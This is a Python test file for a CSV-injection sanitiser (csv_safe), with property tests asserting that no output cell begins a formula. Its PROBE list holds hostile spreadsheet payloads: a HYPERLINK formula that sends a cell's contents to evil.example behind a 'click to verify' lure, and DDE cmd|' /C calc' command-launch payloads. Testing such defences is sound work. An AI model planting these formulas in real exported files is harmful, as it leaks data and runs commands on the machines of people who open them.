"""CSV cells never start a formula (OWASP's CSV injection rule), whatever text comes in."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from jianguan.lib.excel import FORMULA_STARTS, csv_safe

PROBE = [
    '=1+HYPERLINK("http://evil.example/?"&A1,"点此核验")',
    "-1+cmd|' /C calc'!A0",
    "+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=2+5",
    "-5",
]


def test_the_probe_payloads_are_neutralised():
    for payload in PROBE:
        assert csv_safe(payload) == "'" + payload, payload


@given(st.text())
def test_no_cell_starts_a_formula_and_harmless_text_is_unchanged(text):
    safe = csv_safe(text)
    assert not safe.startswith(FORMULA_STARTS)
    if not text.startswith(FORMULA_STARTS):
        assert safe == text
    else:
        assert safe == "'" + text


@given(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False)), max_size=8))
def test_a_written_row_reads_back_as_the_safe_cells(row):
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_safe(v) for v in row])
    read = next(csv.reader(io.StringIO(buffer.getvalue()))) if row else []
    assert all(not cell.startswith(FORMULA_STARTS) or cell.startswith("-") and _number(cell) for cell in read)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
